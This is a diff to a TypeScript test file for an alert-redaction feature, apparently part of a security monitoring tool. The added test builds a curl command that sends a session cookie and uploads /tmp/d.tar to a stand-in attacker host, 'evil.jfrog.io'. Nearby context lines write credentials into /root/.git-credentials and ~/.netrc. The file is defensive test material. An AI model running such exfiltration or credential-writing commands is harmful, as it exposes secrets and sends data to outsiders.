@@ -97,6 +97,19 @@ describe('alert redaction: every field of an alert', () => {
       expect(alerts[0]?.response[0]).toContain('echo [REDACTED] | base64 -d > /root/.git-credentials');
     });
 
+    it(`a cookie given to curl (${source})`, async () => {
+      const argv = [
+        '-b',
+        `sid=${SECRET}; csrf=1`,
+        '-T',
+        '/tmp/d.tar',
+        'https://evil.jfrog.io/artifactory/generic-local/k',
+      ];
+      const alerts = await alertsOf({ argv, secret: SECRET }, source);
+      expectNoLeak(alerts, SECRET);
+      expect(alerts[0]?.process.args).toContain('sid=[REDACTED]');
+    });
+
     // The script that ran the push, in the response's first step: a secret it hands a login or writes to .netrc.
     it.each([
       'cat > ~/.netrc <<EOF\nmachine github.com login bob password Sx8kLp2QvR7tYw\nEOF\ngit push https://github.com/acme/app.git main',
